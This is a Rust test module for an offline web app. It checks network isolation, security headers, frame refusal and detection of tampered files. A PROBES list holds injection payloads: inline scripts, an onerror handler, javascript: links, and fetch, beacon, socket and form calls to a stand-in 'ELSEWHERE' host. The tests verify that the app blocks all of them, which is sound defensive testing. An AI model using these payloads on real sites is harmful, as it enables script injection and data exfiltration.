//! The page itself: what it asks for, what it runs, who may frame it, and a file that was changed.

use std::{
    fs,
    io::{Read, Write},
    net::{Ipv4Addr, TcpListener, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    thread,
    time::Duration,
};

use serde_json::json;
use xtask::policy;

use super::{Bench, Outcome, doors::is_seen_within, tally::ensure};
use crate::{Browser, Door, Note, Person};

const NOTE: Note = Note {
    door: Door::Free,
    text: "Written in a tunnel, without any network.",
    title: "Tunnel",
    role: "both",
    wishes: &["may-share"],
};

/// F100: once it is there, the app asks for nothing, and works without a network.
pub(super) fn without_network(bench: &Bench, rounds: u32) -> Outcome {
    Outcome::of(rounds, |_| {
        let browser = bench.open_phone("offline", Bench::options());
        let offline = |is_offline: bool| {
            let network = json!({ "offline": is_offline, "latency": 0, "downloadThroughput": -1, "uploadThroughput": -1 });
            browser.devtools("Network.emulateNetworkConditions", network);
        };
        browser.devtools("Network.enable", json!({}));
        offline(true);
        browser.run("performance.clearResourceTimings();", &[]);
        Person::write(&browser, &NOTE);
        Person::go(&browser, "/entries");
        browser.tap(".entry a");
        browser.see("#entry-text");
        Person::go(&browser, "/share");
        browser.tap("#review");
        browser.tap("#make");
        browser.see(".receipt");
        Person::go(&browser, "/");
        Person::lock(&browser);
        bench.person.unlock(&browser);
        let asked = browser.run(
            "return performance.getEntriesByType('resource').map(({ name }) => name)
                .filter(name => !name.startsWith('blob:') && !name.startsWith(location.origin));",
            &[],
        );
        ensure(asked == json!([]), || format!("asked for {asked}"))?;
        browser.reload();
        browser.see("#passphrase");
        bench.person.unlock(&browser);
        Ok(())
    })
}

/// F101: the policy goes with every answer and stands in the page.
pub(super) fn policy_stands(bench: &Bench, rounds: u32) -> Outcome {
    let files = [
        "index.html",
        "check.js",
        "worker.js",
        "study.json",
        "nothing.js",
        "entries",
        "icons/icon.svg",
    ];
    let cases = files.map(|file| (file.to_owned(), file));
    Outcome::of_cases(rounds, cases, |file| {
        let answer = ask(&bench.world.url(), file);
        for (name, value) in policy::HEADERS {
            let line = format!("{}: {value}", name.to_lowercase());
            let is_there = answer.lines().any(|found| {
                let (name, value) = found.split_once(": ").unwrap_or_default();
                format!("{}: {value}", name.to_lowercase()) == line
            });
            ensure(is_there, || format!("{name} is missing or another"))?;
        }
        let page = fs::read_to_string(bench.world.path("dist/index.html"));
        let page = page.map_err(|error| error.to_string())?;
        ensure(page.contains(&policy::meta_policy()), || {
            "the page's own is another".into()
        })
    })
}

/// An answer's headers, as they come.
fn ask(url: &str, file: &str) -> String {
    let host = url.trim_start_matches("http://").trim_end_matches('/');
    let mut stream = TcpStream::connect(host).expect("the server answers");
    let request = format!("GET /{file} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    stream.write_all(request.as_bytes()).expect("it is asked");
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).expect("it answers");
    let answer = String::from_utf8_lossy(&answer).into_owned();
    answer
        .split("\r\n\r\n")
        .next()
        .unwrap_or_default()
        .to_owned()
}

/// Code that found its way into the page. `ELSEWHERE` is another origin that counts.
const PROBES: [(&str, &str); 16] = [
    (
        "inline script",
        "const s = document.createElement('script'); s.textContent = 'window.pwn=1'; document.body.append(s);",
    ),
    (
        "script from elsewhere",
        "const s = document.createElement('script'); s.src = 'ELSEWHERE/x.js'; document.body.append(s);",
    ),
    (
        "script in an address",
        "const s = document.createElement('script'); s.src = 'data:text/javascript,window.pwn=1'; document.body.append(s);",
    ),
    (
        "handler",
        "document.body.insertAdjacentHTML('beforeend', '<img src=/none.png onerror=\"window.pwn=1\">');",
    ),
    (
        "link that runs",
        "const a = document.createElement('a'); a.href = 'javascript:window.pwn=1'; document.body.append(a); a.click();",
    ),
    (
        "timer of text",
        "try { setTimeout('window.pwn=1', 0); } catch {}",
    ),
    (
        "frame",
        "const f = document.createElement('iframe'); f.src = 'ELSEWHERE/frame'; document.body.append(f);",
    ),
    (
        "frame of text",
        "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.pwn=1</script>'; document.body.append(f);",
    ),
    ("picture", "new Image().src = 'ELSEWHERE/x.png';"),
    (
        "style sheet",
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'ELSEWHERE/x.css'; document.head.append(l);",
    ),
    (
        "fetch",
        "fetch('ELSEWHERE/x', { mode: 'no-cors' }).catch(() => {});",
    ),
    ("beacon", "navigator.sendBeacon('ELSEWHERE/x', 'text');"),
    (
        "socket",
        "try { new WebSocket('ELSEWHERE/x'.replace('http', 'ws')); } catch {}",
    ),
    (
        "form",
        "const f = document.createElement('form'); f.action = 'ELSEWHERE/x'; f.method = 'post'; document.body.append(f); f.submit();",
    ),
    (
        "worker",
        "try { new Worker('data:text/javascript,fetch(\"ELSEWHERE/x\")'); } catch {}",
    ),
    (
        "base",
        "const b = document.createElement('base'); b.href = 'ELSEWHERE/'; document.head.append(b); fetch('relative').catch(() => {});",
    ),
];

/// F102: injected code does not run, and asks nobody.
pub(super) fn probes_refused(bench: &Bench, rounds: u32) -> Outcome {
    let elsewhere = Elsewhere::start(String::new());
    let browser = bench.open_phone("probes", Bench::options());
    Outcome::of_cases(
        rounds,
        PROBES.map(|(name, probe)| (name.to_owned(), probe)),
        |probe| {
            let before = elsewhere.asked();
            browser.run(&probe.replace("ELSEWHERE", &elsewhere.url), &[]);
            thread::sleep(Duration::from_millis(150));
            let ran = browser.run("return typeof window.pwn;", &[]);
            ensure(ran == "undefined", || "it ran".into())?;
            let asked = elsewhere.asked() - before;
            ensure(asked == 0, || format!("{asked} requests arrived"))
        },
    )
}

/// F103: another site cannot show the app in a frame.
pub(super) fn framed(bench: &Bench, rounds: u32) -> Outcome {
    Outcome::of(rounds, |_| {
        let page = format!(
            "<!doctype html><h1>Elsewhere</h1><iframe src='{}'></iframe>",
            bench.world.url()
        );
        let elsewhere = Elsewhere::start(page);
        let browser = Browser::start(&bench.folder("framed"), Bench::options());
        browser.go(&elsewhere.url);
        browser.see("iframe");
        thread::sleep(Duration::from_secs(1));
        let frames = browser.devtools("Page.getFrameTree", json!({}));
        let frame = &frames["frameTree"]["childFrames"][0]["frame"];
        let is_refused = frame["unreachableUrl"].is_string()
            || frame["url"]
                .as_str()
                .is_some_and(|url| url.starts_with("chrome-error:"));
        ensure(is_refused, || format!("the frame shows {frame}"))
    })
}

/// F105: a file of the app is not the one that was built.
pub(super) fn tampered(bench: &Bench, rounds: u32) -> Outcome {
    let dist = bench.world.path("dist");
    let mut files: Vec<_> = fs::read_dir(&dist)
        .expect("the app can be read")
        .filter_map(|file| Some(file.ok()?.path()))
        .filter(|file| {
            let name = file
                .file_name()
                .unwrap_or_default()
                .to_string_lossy()
                .into_owned();
            name.starts_with("closing-the-loop-") || name.starts_with("boot-")
        })
        .collect();
    files.sort();
    Outcome::of(rounds, |round| {
        let file = &files[round as usize % files.len()];
        let good = fs::read(file).map_err(|error| error.to_string())?;
        let is_code = file.extension().is_some_and(|end| end == "js");
        let bad = if is_code {
            // Another program that does the same: nothing but a digest can tell.
            [b"/* changed */\n".to_vec(), good.clone()].concat()
        } else {
            // A letter of the version in a sentence, or of any other text.
            let mut bad = good.clone();
            let at = bad
                .windows(6)
                .rposition(|six| six.iter().all(u8::is_ascii_lowercase));
            bad[at.ok_or("the file holds no words")?] ^= 1;
            bad
        };
        fs::write(file, bad).map_err(|error| error.to_string())?;
        let browser = Browser::start(&bench.folder("tampered"), Bench::options());
        browser.go(&bench.world.url());
        let starts = is_seen_within(&browser, "#to-code", 4_000);
        fs::write(file, good).map_err(|error| error.to_string())?;
        let name = file.file_name().unwrap_or_default().to_string_lossy();
        ensure(!starts, || format!("the app starts with another {name}"))
    })
}

/// A server of another origin that counts who asks, and gives everyone the same page.
struct Elsewhere {
    url: String,
    count: Arc<AtomicUsize>,
}

impl Elsewhere {
    fn start(page: String) -> Self {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a port can be opened");
        let address = listener.local_addr().expect("a socket has an address");
        let count = Arc::new(AtomicUsize::new(0));
        let counting = Arc::clone(&count);
        // It ends with the program: nobody waits for it.
        thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
                // A browser opens connections ahead on which it never asks.
                if stream.read(&mut [0; 4096]).is_ok_and(|read| read > 0) {
                    counting.fetch_add(1, Ordering::SeqCst);
                }
                let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close";
                let answer = format!("{head}\r\nContent-Length: {}\r\n\r\n{page}", page.len());
                let _ = stream.write_all(answer.as_bytes());
            }
        });
        Self {
            url: format!("http://{address}"),
            count,
        }
    }

    fn asked(&self) -> usize {
        self.count.load(Ordering::SeqCst)
    }
}
